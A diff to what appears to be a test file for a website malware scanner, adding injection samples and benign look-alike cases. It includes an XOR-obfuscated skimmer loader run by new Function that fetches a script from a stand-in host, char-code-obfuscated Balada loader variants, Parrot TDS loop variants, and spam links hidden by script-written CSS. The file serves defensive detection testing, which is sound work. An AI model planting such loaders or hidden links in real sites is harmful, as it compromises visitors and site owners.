@@ -10,6 +10,7 @@ fetched or run. docs/ACCURACY.md ("Injection families") has the table before and
 from __future__ import annotations
 
 import base64
+import re
 
 import pytest
 
@@ -158,6 +159,17 @@ BALADA_CODED_TAG = (
     f"{_codes('text/javascript')}); el.src = String.fromCharCode("
     f"{_codes('https://pkg.weathertilesync.test/w/track?v=4')});el.putAfter(document."
     f"getElementsByTagName(String.fromCharCode({_codes('script')}))[0]);}})();</script>")
+# the checkout skimmer's XOR-and-reverse decoder run by `new Function`, its key a literal
+# of the script rather than the page's host name: read, it loads a script
+_XOR_KEY = "k3yZ"
+_XOR_HIDDEN = "".join(chr(ord(c) ^ ord(_XOR_KEY[i % 4])) for i, c in enumerate(
+    "var s=document.createElement('script');s.src='https://cdn.checkout-metrics.test/c.js';"
+    "document.head.appendChild(s);"))[::-1]
+XOR_KEYED_LOADER = (
+    "<script>!function(z,t){!(function(z){var n=(function(z,t){return z.split('').map("
+    "function(z,n){return String.fromCharCode(z.charCodeAt(0)^t.charCodeAt(n%t.length))"
+    "}).join('');})(z.split('').reverse().join(''),t);try{new Function(n)();}catch(e){}})(z)}('"
+    + "".join(f"\\x{ord(c):02x}" for c in _XOR_HIDDEN) + f"','{_XOR_KEY}');</script>")
 # SocGholish: an async loader whose address is base64
 SOCGHOLISH = (
     "<script>;(function(d,t){var s=d.createElement(t);s.async=true;s.src=atob('"
@@ -267,6 +279,10 @@ FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
     ("ndsw / Parrot TDS, obfuscated, wp_footer", {"footer": NDSW_OBFUSCATED}, ("tds-loader", H)),
     ("ndsw / Parrot TDS, string table renamed, wp_footer", {"footer": NDSW_RENAMED},
      ("tds-loader", H)),
+    ("ndsw / Parrot TDS, string table renamed, its loop minified to while(!0), wp_footer",
+     {"footer": NDSW_RENAMED.replace("while(!![])", "while(!0)")}, ("tds-loader", H)),
+    ("ndsw / Parrot TDS, string table renamed, its loop written for(;;), wp_footer",
+     {"footer": NDSW_RENAMED.replace("while(!![])", "for(;;)")}, ("tds-loader", H)),
     ("Sign1 XOR loader, Custom HTML widget", {"widget": SIGN1_LOADER}, ("tds-loader", H)),
     ("Sign1-style cookie and time gated redirect, widget", {"widget": SIGN1_REDIRECT},
      ("redirect", H)),
@@ -275,7 +291,24 @@ FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
     ("Balada fromCharCode src, head", {"head": BALADA_SRC}, ("obfuscated-script", H)),
     ("Balada eval(fromCharCode), in the post", {"post": BALADA_EVAL}, ("obfuscated-script", H)),
     ("Balada char-code tag and src, head", {"head": BALADA_CODED_TAG}, ("obfuscated-script", H)),
+    ("Balada char-code tag in capitals, head", {"head": BALADA_CODED_TAG.replace(
+        _codes("script"), _codes("SCRIPT"))}, ("obfuscated-script", H)),
+    ("Balada char-code tag in hex, head", {"head": BALADA_CODED_TAG.replace(
+        _codes("script"), ",".join(hex(ord(c)) for c in "script"))}, ("obfuscated-script", H)),
+    ("Balada char-code tag through window.String['fromCharCode'], head", {
+        "head": BALADA_CODED_TAG.replace(f"createElement(String.fromCharCode({_codes('script')}",
+                                         "createElement(window.String['fromCharCode']("
+                                         f"{_codes('script')}")}, ("obfuscated-script", H)),
+    ("Balada char-code tag and src by fromCharCode.apply, head", {"head": re.sub(
+        r"String\.fromCharCode\(([\d,]+)\)", r"String.fromCharCode.apply(null,[\1])",
+        BALADA_CODED_TAG)}, ("obfuscated-script", H)),
+    ("Balada char-code tag held in a name, head", {"head": BALADA_CODED_TAG.replace(
+        f"var el = document.createElement(String.fromCharCode({_codes('script')}));",
+        f"var t = String.fromCharCode({_codes('script')}); var el = document.createElement(t);"
+    )}, ("obfuscated-script", H)),
     ("SocGholish atob loader, wp_footer", {"footer": SOCGHOLISH}, ("obfuscated-script", H)),
+    ("XOR-hidden loader run by new Function, its key in the script, wp_footer", {
+        "footer": XOR_KEYED_LOADER}, ("obfuscated-script", H)),
     ("fake browser update overlay", {"body_top": FAKE_UPDATE}, ("fake-update", H)),
     ("ClickFix clipboard.writeText", {"body_top": CLICKFIX_WRITE}, ("clipboard-command", H)),
     ("ClickFix execCommand('copy') of a hidden textarea", {"body_top": CLICKFIX_COPY},
@@ -293,6 +326,26 @@ FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
         '<span class="k7mz2"><a href="https://replica-bags-outlet.test/">bags</a></span><script>'
         "var s=document.createElement('style');s.textContent='.k7mz2{display:none}';document."
         "head.appendChild(s);</script>")}, ("hidden-links", H)),
+    ("SEO link a script's rule moves a world away, its name all letters, wp_footer", {"footer": (
+        '<div id="hZkQwPtrLm"><p><a href="https://cheap-meds-online.test/">look here</a></p>'
+        "</div><script>var r='#hZkQwPtrLm{position:fixed;overflow:hidden;top:-90817263px}';"
+        "var st=document.createElement('st'+'yle');st.appendChild(document.createTextNode(r));"
+        "document.getElementsByTagName('head')[0].appendChild(st);</script>")},
+     ("hidden-links", H)),
+    ("SEO link selling replicas a script's plainly named rule hides, wp_footer", {"footer": (
+        '<div id="partner"><a href="https://cheap-replica-watches.test/">replica watches</a></div>'
+        "<script>var s=document.createElement('st'+'yle');s.innerHTML='#partner{display:none}';"
+        "document.head.appendChild(s);</script>")}, ("hidden-links", H)),
+    ("SEO link off-screen by a rule in a template literal, wp_footer", {"footer": (
+        SCRIPT_HIDDEN_LINK.replace("var r='#qW3rtY9uIopAs{", "var r=`#qW3rtY9uIopAs{")
+        .replace("z-index:9981;}';", "z-index:9981;}`;"))}, ("hidden-links", H)),
+    ("SEO link off-screen, its <style> named in capitals and mixed quotes, wp_footer", {
+        "footer": SCRIPT_HIDDEN_LINK.replace("createElement('sty'+'le')",
+                                             "createElement('ST'+\"YLE\")")}, ("hidden-links", H)),
+    ("SEO link off-screen by a <style> a script writes as markup, wp_footer", {"footer": (
+        '<div id="qW3rtY9uIopAs"><p><a href="https://cheap-meds-online.test/">look here</a></p>'
+        "</div><script>document.head.insertAdjacentHTML('beforeend','<style>#qW3rtY9uIopAs{"
+        "position:fixed;top:-90817263px}</style>');</script>")}, ("hidden-links", H)),
     ("SEO links at font-size 0, in the post", {"post": PHARMA_FONT0}, ("hidden-links", H)),
     ("CoinHive-style miner, wp_footer", {"footer": MINER}, ("cryptominer", H)),
     ("0x0 iframe in a widget", {"widget": FRAME_ZERO}, ("hidden-iframe", H)),
@@ -334,6 +387,29 @@ TWINS: list[tuple[str, dict[str, str]]] = [
         'version is at <a href="https://timetables.ferrylink.test/print">the operator\'s site'
         "</a> if it does not load.</p></div><script>var st=document.createElement('style');"
         "st.textContent='#js-warning{display:none}';document.head.appendChild(st);</script>")}),
+    ("a no-JavaScript notice a script hides, its one link the how-to", {"body_top": (
+        '<div class="nojs-note"><a href="https://www.enable-javascript.test/">Turn on JavaScript'
+        " to see the live timetable</a></div><script>(function(){var s=document.createElement("
+        "'style');s.textContent='.nojs-note{display:none}';document.head.appendChild(s);})();"
+        "</script>")}),
+    ("an off-canvas menu a script's rule parks beside the screen, one link to the group",
+     {"body_top": (
+         '<nav id="offcanvas"><a href="https://events.harbourmedia-group.test/">Events</a>'
+         "</nav><script>(function(){var s=document.createElement('style');s.textContent="
+         "'#offcanvas{position:fixed;left:-320px;transition:left .3s}';document.head."
+         "appendChild(s);})();</script>")}),
+    ("a skip link's block a script moves off-screen, to the group's accessibility page",
+     {"body_top": (
+         '<div class="skip-help"><a href="https://access.harbourmedia-group.test/">'
+         "Accessibility help</a></div><script>var st=document.createElement('style');"
+         "st.textContent='.skip-help{position:absolute;left:-10000px}';document.head."
+         "appendChild(st);</script>")}),
+    ("a CSS-in-JS class its library's script writes hiding one link to a sister site", {
+        "body_top": (
+            '<style data-emotion="css"></style><div class="css-1x2y3z"><a href="https://www.'
+            'harbourweekly.test/">Harbour Weekly</a></div><script>(function(){var s=document.'
+            "createElement('style');s.setAttribute('data-emotion','css');s.textContent="
+            "'.css-1x2y3z{display:none}';document.head.appendChild(s);})();</script>")}),
     ("a drawer menu a script writes closed, opened by a visible button", {"body_top": (
         '<button aria-controls="partners" aria-expanded="false">Our partners</button>'
         '<ul id="partners"><li><a href="https://ferrylink.test/">Ferrylink</a></li></ul>'
